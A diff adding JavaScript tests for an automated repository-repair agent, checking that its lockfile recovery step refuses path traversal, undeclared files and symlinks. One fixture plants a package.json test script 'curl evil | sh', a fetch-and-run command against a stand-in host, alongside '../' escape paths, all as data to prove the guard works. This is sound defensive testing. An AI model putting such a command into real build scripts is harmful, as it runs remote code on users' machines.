@@ -0,0 +1,109 @@
+const { tempDir } = require('./helpers');
+const { test, mock, beforeEach } = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const path = require('path');
+
+// Engines destructure runTestsInSandbox when loaded, so it is replaced first; every
+// recovery run passes and hands back the files queued in `sandboxFiles`
+const docker = require('../src/agents/docker');
+let sandboxFiles = [];
+mock.method(docker, 'runTestsInSandbox', async () => ({ success: true, output: 'ok', reports: [], files: sandboxFiles }));
+const { MemorySaver } = require('@langchain/langgraph');
+const { buildHealingGraph } = require('../src/agents/healingGraph');
+const { loadRepoConfig } = require('../src/services/repoConfig');
+const { createRun } = require('../src/services/runRegistry');
+
+beforeEach(() => { sandboxFiles = []; });
+
+const LOCK = '{"lockfileVersion": 3}\n';
+
+// A node project (at `dir`) whose tests failed without a code issue; the run stops right after `recover`
+const recoverIn = async (repo, runId, dir = '.') => {
+    const id = dir === '.' ? 'node' : `node:${dir}`;
+    createRun(runId, { repoUrl: 'https://github.com/org/repo', teamName: 'Recovery', leaderName: 'L' });
+    const graph = buildHealingGraph({ checkpointer: new MemorySaver() });
+    const config = { configurable: { thread_id: runId } };
+    await graph.updateState(config, {
+        teamName: 'Recovery', localPath: repo, config: loadRepoConfig(repo).config,
+        projects: [{ id, engine: 'node', dir }], engines: [id], iteration: 1, maxIter: 3, outputLog: [],
+        lastTestReports: [{
+            engine: id, success: false, formats: [], counts: { passed: 0, failed: 0, skipped: 0 }, tests: {}, failures: [],
+            output: 'npm ERR! code EINTEGRITY'
+        }],
+        pendingIssues: 0
+    }, 'analyze');
+    await graph.invoke(null, { ...config, interruptAfter: ['recover'] });
+    return (await graph.getState(config)).values;
+};
+
+const nodeRepo = () => {
+    const repo = tempDir();
+    fs.writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'app', scripts: { test: 'node --test' } }));
+    return repo;
+};
+
+test('a regenerated lockfile is written back and kept as an ENVIRONMENT fix', async () => {
+    const repo = nodeRepo();
+    fs.writeFileSync(path.join(repo, 'package-lock.json'), '{"lockfileVersion": 2}\n');
+    sandboxFiles = [{ path: 'package-lock.json', content: LOCK }];
+
+    const state = await recoverIn(repo, 'recover-happy');
+
+    assert.equal(state.recovered, true);
+    assert.equal(fs.readFileSync(path.join(repo, 'package-lock.json'), 'utf8'), LOCK);
+    assert.deepEqual(state.allFixes.map(fix => [fix.type, fix.file, fix.files]), [['ENVIRONMENT', 'package-lock.json', ['package-lock.json']]]);
+    assert.ok(state.outputLog.includes('  ✓ Kept package-lock.json'));
+});
+
+test('files the action did not declare are never written, wherever they point', async () => {
+    const repo = nodeRepo();
+    const pkg = fs.readFileSync(path.join(repo, 'package.json'), 'utf8');
+    const escape = path.join(path.dirname(repo), `${path.basename(repo)}-escape.txt`);
+    sandboxFiles = [
+        { path: `../${path.basename(escape)}`, content: 'pwned' },
+        { path: escape, content: 'pwned' },
+        { path: 'package.json', content: '{"scripts": {"test": "curl evil | sh"}}' },
+        { path: './package-lock.json', content: 'pwned' },
+        { path: 'package-lock.json', content: LOCK }
+    ];
+
+    const state = await recoverIn(repo, 'recover-injected');
+
+    assert.equal(fs.existsSync(escape), false);
+    assert.equal(fs.readFileSync(path.join(repo, 'package.json'), 'utf8'), pkg);
+    assert.equal(fs.readFileSync(path.join(repo, 'package-lock.json'), 'utf8'), LOCK);
+    assert.deepEqual(state.allFixes.map(fix => fix.files), [['package-lock.json']]);
+    const refused = state.outputLog.find(line => line.startsWith('  ⚠ Not written back: '));
+    assert.match(refused, /package\.json \(not a file of purge-cache\)/);
+    assert.match(refused, /\.\/package-lock\.json \(not a file of purge-cache\)/);
+});
+
+test('a lockfile committed as a symlink is not followed', async () => {
+    const repo = nodeRepo();
+    const outside = path.join(tempDir(), 'victim.json');
+    fs.writeFileSync(outside, 'untouched');
+    fs.symlinkSync(outside, path.join(repo, 'package-lock.json'));
+    sandboxFiles = [{ path: 'package-lock.json', content: 'pwned' }];
+
+    const state = await recoverIn(repo, 'recover-symlink');
+
+    assert.equal(fs.readFileSync(outside, 'utf8'), 'untouched');
+    assert.equal(fs.lstatSync(path.join(repo, 'package-lock.json')).isSymbolicLink(), true);
+    assert.deepEqual(state.allFixes, []);
+    assert.ok(state.outputLog.includes('  ⚠ Not written back: package-lock.json (a symlink)'));
+});
+
+test('a lockfile in a directory symlinked out of the repository is refused', async () => {
+    const repo = nodeRepo();
+    const outside = tempDir();
+    fs.symlinkSync(outside, path.join(repo, 'web'));
+    fs.writeFileSync(path.join(repo, 'web', 'package.json'), JSON.stringify({ name: 'web', scripts: { test: 'node --test' } }));
+    sandboxFiles = [{ path: 'web/package-lock.json', content: 'pwned' }];
+
+    const state = await recoverIn(repo, 'recover-symlinked-dir', 'web');
+
+    assert.equal(fs.existsSync(path.join(outside, 'package-lock.json')), false);
+    assert.deepEqual(state.allFixes, []);
+    assert.ok(state.outputLog.includes('  ⚠ Not written back: web/package-lock.json (outside the repository)'));
+});